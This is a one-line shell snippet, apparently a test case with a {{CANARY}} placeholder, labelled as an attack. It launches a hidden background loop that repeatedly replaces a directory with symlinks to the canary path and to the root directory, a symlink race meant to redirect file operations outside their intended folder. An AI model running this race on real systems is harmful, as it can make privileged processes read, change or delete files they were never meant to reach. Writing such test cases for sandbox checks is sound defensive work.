# attack: changes a folder for a link to a file outside, again and again, while its files are taken over
mkdir d; echo x > d/x; (setsid sh -c 'while :; do rm -rf e; mv d e; ln -s {{CANARY}} d; rm d; ln -s / d; rm d; mkdir -p d; echo x > d/x; done' >/dev/null 2>&1 &) ; sleep 0.1; echo away
